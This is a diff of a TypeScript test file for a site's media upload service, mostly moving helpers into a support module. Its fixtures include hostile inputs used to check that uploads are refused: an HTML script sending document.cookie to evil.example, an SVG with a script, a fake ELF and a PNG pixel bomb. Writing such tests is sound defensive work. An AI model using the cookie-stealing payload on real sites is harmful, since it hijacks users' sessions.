@@ -1,10 +1,9 @@
 import assert from 'node:assert/strict';
-import { createHash } from 'node:crypto';
 import fs from 'node:fs';
 import path from 'node:path';
 import { Readable } from 'node:stream';
 import { text } from 'node:stream/consumers';
-import { deflateSync } from 'node:zlib';
+import { crc32, deflateSync } from 'node:zlib';
 import { after, before, describe, test } from 'node:test';
 import sharp from 'sharp';
 import { SiteScope } from '../src/db/site-scope.ts';
@@ -16,17 +15,15 @@ import { storeUpload, sweepIncompleteUploads, type UploadInput } from '../src/me
 import type { Site } from '../src/sites/site.ts';
 import { buildSite, buildTestApp, type TestApp } from './support/app.ts';
 import { dialectsToTest } from './support/databases.ts';
+import { noisyJpeg, pdf, sha256, storedKeys, truncatedJpeg } from './support/media.ts';
 import { type LocalS3, startLocalS3 } from './support/s3rver.ts';
 
 // Test files, made once.
 const jpeg = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#2f7a4d' } }).jpeg().toBuffer();
 const png = await sharp({ create: { width: 32, height: 20, channels: 4, background: { r: 20, g: 90, b: 160, alpha: 0.5 } } }).png().toBuffer();
-const noisyJpeg = await sharp({ create: { width: 256, height: 256, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma: 40 } } }).jpeg({ quality: 90 }).toBuffer();
-const truncatedJpeg = noisyJpeg.subarray(0, Math.floor(noisyJpeg.length * 0.6));
 const html = Buffer.from('<!DOCTYPE html>\n<html><body><script>document.location="https://evil.example/?c="+document.cookie</script></body></html>');
 const svg = Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>');
 const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56), Buffer.alloc(2000, 0x90)]);
-const pdf = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
 const csv = Buffer.from('country,target,progress\nBelgium,3,0.42\nBénin,3,0.3\n');
 
 /** A PNG whose header claims `width` × `height` but holds almost nothing: small on disk, huge once decoded. */
@@ -45,17 +42,6 @@ function pixelBomb(width: number, height: number): Buffer {
   ihdr.set([8, 0, 0, 0, 0], 8); // 8-bit greyscale
   return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(Buffer.alloc(width + 1))), chunk('IEND', Buffer.alloc(0))]);
 }
-
-function crc32(bytes: Buffer): number {
-  let crc = 0xffffffff;
-  for (const byte of bytes) {
-    crc ^= byte;
-    for (let k = 0; k < 8; k++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
-  }
-  return (crc ^ 0xffffffff) >>> 0;
-}
-
-const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
 
 let s3: LocalS3;
 before(async () => {
@@ -77,16 +63,11 @@ for (const { dialect, skip } of await dialectsToTest()) {
 
       const upload = (bytes: Buffer | Readable, filename: string, extra: Partial<UploadInput> = {}, on: SiteScope = scope) =>
         storeUpload({ scope: on, store, actorId: null, stagingDir }, { stream: Buffer.isBuffer(bytes) ? Readable.from([bytes]) : bytes, filename, ...extra });
-      const storedKeys = async () => {
-        const keys: string[] = [];
-        for await (const entry of store.list('')) keys.push(entry.key);
-        return keys.sort();
-      };
       const rowCount = async () => (await t.services.db.kysely.selectFrom('media_files').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow()).n;
 
       /** Uploads `bytes` as `filename`, expects refusal with `code`/`status`, and that nothing was kept anywhere. */
       async function assertRefused(bytes: Buffer | Readable, filename: string, code: string, status: number, extra: Partial<UploadInput> = {}) {
-        const keysBefore = await storedKeys();
+        const keysBefore = await storedKeys(store);
         const rowsBefore = Number(await rowCount());
         await assert.rejects(upload(bytes, filename, extra), (error: unknown) => {
           assert.ok(error instanceof AppError, `${filename}: expected an AppError, got ${String(error)}`);
@@ -95,7 +76,7 @@ for (const { dialect, skip } of await dialectsToTest()) {
           if (filename.trim()) assert.ok(error.message.includes(JSON.stringify(filename).slice(1, 20)) || error.message.includes(filename.slice(0, 20)), `the message names the file: ${error.message}`);
           return true;
         });
-        assert.deepEqual(await storedKeys(), keysBefore, `${filename}: nothing new in the store`);
+        assert.deepEqual(await storedKeys(store), keysBefore, `${filename}: nothing new in the store`);
         assert.equal(Number(await rowCount()), rowsBefore, `${filename}: no row`);
         assert.deepEqual(fs.readdirSync(stagingDir), [], `${filename}: no staged file left`);
       }
@@ -131,7 +112,7 @@ for (const { dialect, skip } of await dialectsToTest()) {
         assert.equal(stored.size, png.length);
         assert.equal(stored.contentType, 'image/png');
         assert.equal(sha256(Buffer.from(await stored.body.toArray().then((chunks) => Buffer.concat(chunks)))), sha256(png));
-        assert.deepEqual(await storedKeys(), [photo.media.storageKey, logo.media.storageKey].sort(), 'no temporary key left');
+        assert.deepEqual(await storedKeys(store), [photo.media.storageKey, logo.media.storageKey].sort(), 'no temporary key left');
 
         const events = await t.services.db.kysely.selectFrom('audit_events').select(['action', 'subject', 'site_id']).where('action', '=', 'media.upload').where('site_id', '=', site.id).execute();
         assert.deepEqual(events.map((e) => e.subject).sort(), [`media:${photo.media.id}`, `media:${logo.media.id}`].sort());
@@ -147,11 +128,11 @@ for (const { dialect, skip } of await dialectsToTest()) {
 
       test('the same bytes twice give one item and store nothing new', async () => {
         const first = await upload(jpeg, 'wetland.jpg');
-        const keys = await storedKeys();
+        const keys = await storedKeys(store);
         const again = await upload(jpeg, 'copy of wetland.jpeg');
         assert.equal(again.duplicate, true);
         assert.equal(again.media.id, first.media.id);
-        assert.deepEqual(await storedKeys(), keys);
+        assert.deepEqual(await storedKeys(store), keys);
         assert.equal((await listMedia(scope)).filter((m) => m.sha256 === sha256(jpeg)).length, 1);
         assert.deepEqual(fs.readdirSync(stagingDir), []);
       });
